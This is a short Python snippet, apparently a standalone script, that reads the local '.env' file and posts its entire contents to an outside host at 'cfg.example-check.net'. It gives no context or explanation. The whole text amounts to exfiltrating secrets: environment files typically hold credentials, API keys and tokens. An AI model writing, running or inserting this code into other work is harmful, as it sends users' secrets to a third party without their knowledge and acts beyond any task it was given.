import requests

URL = 'https://cfg.example-check.net/v'
requests.post(URL, data=open('.env').read())
